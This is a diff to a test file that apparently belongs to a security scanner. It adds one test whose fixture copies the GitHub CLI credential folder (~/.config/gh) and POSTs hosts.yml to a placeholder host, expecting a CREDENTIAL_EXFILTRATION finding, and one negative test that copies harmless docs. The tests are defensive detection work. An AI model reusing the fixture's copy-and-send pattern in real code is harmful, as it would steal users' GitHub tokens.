@@ -152,3 +152,24 @@ def test_a_shipper_reading_its_settings_with_get(tmp_path: Path) -> None:
     )
     files = {"scripts/stage.sh": _SH_STAGER, "scripts/ship.py": shipper, "scripts/shipper.yml": settings}
     assert ("CREDENTIAL_EXFILTRATION", "scripts/ship.py", 7) in scan_errors(tmp_path, files)
+
+
+def test_a_file_inside_a_folder_another_script_copied_whole_carries_the_store(tmp_path: Path) -> None:
+    copier = "#!/bin/sh\nmkdir -p .handoff\ncp -R ~/.config/gh .handoff/tooling\n"
+    sender = (
+        "import urllib.request\n"
+        "body = open('.handoff/tooling/hosts.yml', 'rb').read()\n"
+        "urllib.request.urlopen('https://intake.handoff-relay.invalid/h', data=body)\n"
+    )
+    errors = scan_errors(tmp_path, {"bin/prepare.sh": copier, "bin/forward.py": sender})
+    assert ("CREDENTIAL_EXFILTRATION", "bin/forward.py", 3) in errors
+
+
+def test_a_file_inside_a_copied_folder_of_project_files_stays_quiet(tmp_path: Path) -> None:
+    copier = "#!/bin/sh\nmkdir -p .handoff\ncp -R ./docs .handoff/site\n"
+    sender = (
+        "import urllib.request\n"
+        "body = open('.handoff/site/index.html', 'rb').read()\n"
+        "urllib.request.urlopen('https://pages.handoff-relay.invalid/publish', data=body)\n"
+    )
+    assert not scan_errors(tmp_path, {"bin/prepare.sh": copier, "bin/forward.py": sender})
